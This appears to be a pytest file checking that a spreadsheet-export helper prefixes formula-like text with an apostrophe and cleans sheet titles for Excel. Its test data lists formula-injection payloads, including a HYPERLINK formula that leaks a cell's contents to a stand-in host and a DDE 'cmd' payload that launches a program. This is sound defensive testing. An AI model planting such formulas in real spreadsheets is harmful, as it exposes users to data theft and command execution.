"""The one function every export writes its cells through (issue 20, findings 2 and 11): text a
spreadsheet would evaluate gets an apostrophe in front; numbers, dates and other text stay as
they are. And sheet titles Excel accepts (finding 4)."""

import datetime
from decimal import Decimal

import pytest

from unioncore.spreadsheets import neutralise, sheet_title

pytestmark = pytest.mark.sqlite

EVALUATED = [
    '=HYPERLINK("http://x/?"&C3,"x")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", EVALUATED)
def test_text_a_spreadsheet_would_evaluate_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Alpha Electric", "O'Brien, Pat", "a=b", "", "-12.50", "+12065550134", "42", None, 42, Decimal("-5.00"),
     datetime.date(2026, 12, 7), datetime.datetime(2026, 12, 7, 9, 30)],
)  # fmt: skip
def test_numbers_dates_and_ordinary_text_stay_as_they_are(value):
    assert neutralise(value) == value
    assert type(neutralise(value)) is type(value)


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Re-sign due / overdue", "Re-sign due - overdue"),
        ("Time-log verification status by employer", "Time-log verification status by"),
        ("a[b]c:d*e?f\\g", "a-b-c-d-e-f-g"),
        ("'quoted'", "quoted"),
        ("  ", "Sheet"),
        ("History", "History (1)"),
    ],
)
def test_sheet_titles_are_what_excel_accepts(title, expected):
    assert sheet_title(title) == expected
    assert len(sheet_title(title)) <= 31


def test_a_sheet_title_already_taken_gets_a_number():
    assert sheet_title("Report", taken={"report"}) == "Report (1)"
